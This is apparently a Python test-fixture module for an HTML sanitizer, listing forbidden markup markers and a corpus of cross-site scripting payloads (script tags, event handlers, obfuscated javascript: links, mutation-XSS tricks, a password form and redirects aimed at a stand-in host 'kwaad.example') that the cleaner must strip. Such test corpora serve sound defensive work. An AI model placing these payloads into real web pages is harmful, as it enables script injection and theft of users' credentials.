"""Texts that want to be more than text. Nothing of these may come out of `richtext.clean`."""

from __future__ import annotations

# What may never be in a cleaned text, in lower case and without spaces.
FORBIDDEN = (
    "<script",
    "<style",
    "<svg",
    "<math",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<!--",
    "javascript:",
    "vbscript:",
    "data:",
    "srcdoc",
    "<template",
    "<noscript",
    "<base",
    "<meta",
    "<link",
)

CORPUS = {
    "script": "<p>voor</p><script>alert(1)</script><p>na</p>",
    "script in capitals": "<ScRiPt src=//kwaad.example></sCrIpT>tekst",
    "style": "<style>body{display:none}</style><p style='color:red' class=x id=main>tekst</p>",
    "handler": '<p onclick="alert(1)" onmouseover=alert(2)>tekst</p><img src=picture:3 onerror=alert(1)>',
    "javascript link": '<a href="javascript:alert(1)">tekst</a>',
    "javascript link in pieces": '<a href="java\tscr\nipt:alert(1)">tekst</a><a href=" '
    '&#106;avascript:x">x</a>',
    "javascript link with sign": '<a href="\x01javascript:alert(1)">tekst</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">tekst</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">tekst</a>',
    "data picture": '<img src="data:image/svg+xml;base64,PHN2Zz4=">tekst',
    "picture elsewhere": '<img src="https://kwaad.example/pixel.gif">tekst<img src="//kwaad.example/p">',
    "picture by another way": '<img src="picture:1/../../x"><img src="picture:-1"><img src="picture:0">tekst',
    "svg": '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>tekst',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>tekst',
    "comment": "<!-- <script>alert(1)</script> --><p>tekst</p><!--[if gte mso 9]><xml></xml><![endif]-->",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src=//kwaad.example>'
    "</iframe>tekst",
    "object": "<object data=x><embed src=y></object>tekst",
    "form": '<form action="//kwaad.example"><input name=wachtwoord><button>Log in</button></form>tekst',
    "base and meta": '<base href="//kwaad.example"><meta http-equiv=refresh '
    'content="0;url=//kwaad.example">tekst',
    "unclosed": "<p><strong>tekst<em>meer<table><tr><td>cel",
    "wrongly nested": "<p><strong>een<p>twee</strong>drie</em></p></p></div>tekst",
    "mxss style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">tekst',
    "mxss math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img '
    'src=1 onerror=alert(1)&gt;">tekst',
    "mxss noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">tekst',
    "mxss template": "<template><script>alert(1)</script></template>tekst",
    "mxss textarea": '<textarea><a title="</textarea><img src=x onerror=alert(1)>">tekst</textarea>tekst',
    "mxss xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>tekst',
    "mxss alt": '<img src="picture:3" alt="&quot;><script>alert(1)</script>">tekst',
    "mxss select": "<select><iframe></select><img src=x onerror=alert(1)>tekst",
    "namespace": '<html xmlns:v><v:shape onload="alert(1)"></v:shape><o:p>tekst</o:p>',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>tekst",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?>tekst',
    "half a letter": "\ud83d tekst \udc00 <p>\x00\x08tekst\ufffe</p>",
    "span bomb": '<table><tr><td colspan="99999999" rowspan="-1">tekst</td><th scope="x">a</th></tr></table>',
}
